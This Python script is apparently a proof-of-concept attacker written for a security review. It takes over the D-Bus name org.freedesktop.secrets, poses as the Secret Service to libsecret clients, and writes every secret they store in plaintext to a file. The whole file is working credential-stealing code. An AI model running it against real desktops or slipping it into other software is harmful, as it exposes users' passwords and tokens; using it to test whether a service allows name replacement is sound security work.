#!/usr/bin/python3
"""Review 55's attacker: a process of the user takes org.freedesktop.secrets from the service.

  name_squatter.py OUT
      Asks the bus for the name with REPLACE_EXISTING (the service allows replacement), writes
      "owned" to OUT.ready once the bus gives it, and then answers as a Secret Service would far
      enough for libsecret to store (OpenSession "plain"), writing every secret a client sends
      with CreateItem to OUT. Runs until killed.
"""
import sys

from jeepney import DBusAddress, MessageType, new_error, new_method_call, new_method_return
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import open_dbus_connection


def main():
    out = sys.argv[1]
    conn = open_dbus_connection(bus='SESSION')
    # 2 = REPLACE_EXISTING, 4 = DO_NOT_QUEUE; 1 is "primary owner".
    granted = conn.send_and_get_reply(message_bus.RequestName('org.freedesktop.secrets', 2 | 4)).body[0]
    with open(out + '.ready', 'w') as ready:
        ready.write(f'owned {granted}\n')
    while True:
        msg = conn.receive()
        if msg.header.message_type != MessageType.method_call:
            continue
        member = msg.header.fields.get(3)  # MEMBER
        if member == 'OpenSession':
            if msg.body[0] == 'plain':
                conn.send(new_method_return(msg, 'vo', (('s', ''), '/org/freedesktop/secrets/session/1')))
            else:
                conn.send(new_error(msg, 'org.freedesktop.DBus.Error.NotSupported'))
        elif member == 'CreateItem':
            properties, (_, _, secret, _), _ = msg.body
            with open(out, 'a') as f:
                f.write(bytes(secret).decode(errors='replace') + '\n')
            conn.send(new_method_return(msg, 'oo', ('/org/freedesktop/secrets/collection/login/1', '/')))
        else:
            conn.send(new_error(msg, 'org.freedesktop.DBus.Error.UnknownMethod'))


sys.exit(main())
